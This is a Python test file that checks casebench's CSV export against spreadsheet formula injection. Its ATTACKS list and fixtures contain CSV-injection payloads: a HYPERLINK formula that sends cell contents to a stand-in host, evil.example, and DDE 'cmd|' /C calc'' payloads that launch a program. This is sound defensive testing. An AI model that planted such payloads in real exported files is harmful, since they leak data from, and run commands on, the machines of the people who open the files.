"""Every CSV casebench writes is data to a spreadsheet program, never a formula: text cells
starting with = + - @, a tab or a line break get a leading quote; numbers stay numbers."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pandas as pd
import pytest

import casebench
from casebench.caseio import save_case
from casebench.cli import main
from casebench.csvtext import FORMULA_STARTS, frame_to_csv, neutralise
from casebench.models import Evidence, Outcome, PowerObservation
from casebench.models.case import CmoConfiguration, IssueCounts

ROOT = Path(__file__).parents[1]
SAMPLE = ROOT / "data" / "sample_cases" / "nhs_ebcd_breast_cancer.yaml"
ATTACKS = [
    '=HYPERLINK("http://evil.example/?"&A1, "click")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize(
    ("value", "expected"),
    [(a, "'" + a) for a in ATTACKS]
    + [
        ("plain text", "plain text"),
        ("'already quoted", "'already quoted"),
        ("a=b", "a=b"),
        ("-3", "'-3"),  # text that looks like a number is text: quoted
        (-3, -3),
        (-0.25, -0.25),
        (None, None),
    ],
)
def test_neutralise(value: object, expected: object) -> None:
    assert neutralise(value) == expected


def test_numbers_stay_numbers_and_text_is_quoted() -> None:
    frame = pd.DataFrame(
        {"=title": ["=1+1", "ok"], "delta": [-0.25, 1.5], "n": [-3, 4], "text": ["-3", "x"]}
    )
    rows = list(csv.reader(io.StringIO(frame_to_csv(frame))))
    assert rows == [
        ["'=title", "delta", "n", "text"],
        ["'=1+1", "-0.25", "-3", "'-3"],
        ["ok", "1.5", "4", "x"],
    ]


def _hostile_case(folder: Path) -> Path:
    """The NHS sample with formula-like text in every free-text field a table shows."""
    case = casebench.load_case(SAMPLE)
    attack = iter(ATTACKS * 20)
    evidence = [Evidence(quote=next(attack), attribution=next(attack), source=next(attack))]
    assessments = {
        qid: a.model_copy(update={"memo": next(attack), "evidence": evidence})
        for qid, a in case.assessments.items()
    }
    hostile = case.model_copy(
        update={
            "id": "hostile",
            "title": next(attack),
            "assessments": assessments,
            "power": [
                PowerObservation(
                    dimension="first",
                    mode="domination",
                    description=next(attack),
                    evidence=evidence,
                )
            ],
            "outcomes": [Outcome(level="individual", description=next(attack), evidence=evidence)],
            "cmo": [
                CmoConfiguration(
                    id="c1",
                    context=next(attack),
                    mechanism=next(attack),
                    mechanism_code="m1",
                    outcome=next(attack),
                    evidence=evidence,
                )
            ],
            "issues": IssueCounts(raised=5, acted_on=2, note=next(attack)),
        }
    )
    path = folder / "hostile.yaml"
    save_case(hostile, path, backup=False)
    return path


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def test_no_csv_cell_of_compare_starts_like_a_formula(tmp_path: Path, capsys) -> None:
    hostile = _hostile_case(tmp_path)
    assert main(["compare", str(hostile), str(SAMPLE), "--format", "csv"]) == 0
    printed = _cells(capsys.readouterr().out)
    out = tmp_path / "out"
    assert main(["compare", str(hostile), str(SAMPLE), "--out", str(out)]) == 0
    files = sorted(out.glob("*.csv"))
    from casebench.comparison import TABLE_NAMES

    assert len(files) == len(TABLE_NAMES)
    cells = printed + [c for f in files for c in _cells(f.read_text(encoding="utf-8"))]
    assert not [c for c in cells if c.startswith(FORMULA_STARTS)]
    assert any(c.startswith("'=cmd|' /C calc'!A0") for c in cells)  # there, as text


def test_agreement_csv_is_neutralised(tmp_path: Path, capsys) -> None:
    framework = (ROOT / "src" / "casebench" / "frameworks" / "farr2017.yaml").read_text(
        encoding="utf-8"
    )
    title = "title: Social interaction"
    assert title in framework
    hostile = framework.replace(title, "title: \"=HYPERLINK('http://evil.example')\"", 1)
    hostile = hostile.replace("id: farr2017", "id: farr_hostile", 1)
    (tmp_path / "hostile.framework.yaml").write_text(hostile, encoding="utf-8")
    case = casebench.load_case(SAMPLE)
    ref = case.framework.model_copy(update={"id": "farr_hostile"})
    for coder in ("A", "B"):
        save_case(
            case.model_copy(update={"coder": coder, "framework": ref}),
            tmp_path / f"{coder}.yaml",
            backup=False,
        )
    code = main(
        [
            "agreement",
            str(tmp_path / "A.yaml"),
            str(tmp_path / "B.yaml"),
            "--format",
            "csv",
            "--framework",
            str(tmp_path / "hostile.framework.yaml"),
        ]
    )
    assert code == 0
    cells = _cells(capsys.readouterr().out)
    assert "'=HYPERLINK('http://evil.example')" in cells
    assert not [c for c in cells if c.startswith(FORMULA_STARTS)]
